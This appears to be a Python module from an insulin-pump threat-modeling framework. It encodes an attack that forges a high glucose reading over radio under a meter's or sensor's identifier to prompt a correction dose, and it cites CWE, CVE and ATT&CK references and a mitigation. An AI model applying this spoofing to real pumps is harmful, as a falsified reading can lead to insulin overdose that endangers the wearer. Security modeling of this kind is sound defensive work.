"""Falsify a reading: send a glucose value under the meter's or the sensor's identifier."""

from __future__ import annotations

from banting.attacks.sources import CLEARTEXT, LI_2011, SENSOR_EMULATION
from banting.interfaces import Grip, Program, Transmit, Wait
from banting.schema.facts import Fact, Rule, goal_fact, position_fact
from banting.schema.question import Goal, Position
from banting.schema.verdict import TechniqueShown

__all__ = ["FALSE_HIGH_MGDL", "FALSIFY", "FalsifyReading"]

FALSE_HIGH_MGDL = 380  # near the top of what meter and sensor can say (400): asks for a correction
_SEQUENCE = 1


class FalsifyReading:
    """One forged reading; nothing but the identifier and a checksum is asked for."""

    shown = TechniqueShown(
        id="falsify-reading",
        title="Falsify a glucose reading",
        what="a transmitter sends a made-up reading with the meter's or sensor's identifier, and "
        "the pump shows it as the wearer's glucose",
        stop_it="turn the meter or sensor option off, and check with a fingerstick before dosing",
        cwe=("CWE-290", "CWE-345"),
        cve=("CVE-2018-10634",),
        emb3d=("TID-406", "TID-407"),
        attack_ics=("T0856", "T0832"),
        sources=(LI_2011, SENSOR_EMULATION, CLEARTEXT),
    )
    rules: tuple[Rule, ...] = tuple(
        Rule(
            id=f"falsify-{device}",
            technique="falsify-reading",
            needs=frozenset(
                {
                    position_fact(Position.RADIO),
                    Fact(f"knows.{device}-id"),
                    Fact(f"pump.takes-{device}"),
                    Fact(f"wearer.reads-{device}-on-pump"),
                }
            ),
            gives=goal_fact(Goal.G6),
            says=f"send a false high reading with the {device}'s identifier",
        )
        for device in ("meter", "sensor")
    )

    def perform(self, rule: Rule, grip: Grip) -> Program:
        """Wait for the hour and send the reading."""
        device = rule.id.removeprefix("falsify-")
        identifier = grip.knows(f"{device}-id")
        yield Wait(until_ms=grip.strike_ms)
        if device == "meter":
            reading = grip.dialect.meter_reading(identifier, FALSE_HIGH_MGDL)
        else:
            reading = grip.dialect.sensor_reading(identifier, FALSE_HIGH_MGDL, _SEQUENCE)
        yield Transmit(link="radio", exchange=reading)
        return f"sent a reading of {FALSE_HIGH_MGDL} mg/dL as the {device}"


FALSIFY = FalsifyReading()
